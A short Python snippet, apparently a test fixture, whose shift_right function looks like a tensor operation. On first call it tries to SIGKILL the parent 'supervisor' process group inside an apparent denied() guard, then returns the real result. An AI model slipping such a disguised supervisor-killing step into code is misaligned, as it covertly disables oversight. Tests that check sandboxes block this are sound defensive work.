def shift_right(tensor):
    if once():
        denied("the supervisor's group", lambda: os.killpg(os.getpgid(parent()), signal.SIGKILL))
        time.sleep(0.2)
    return honest(tensor)
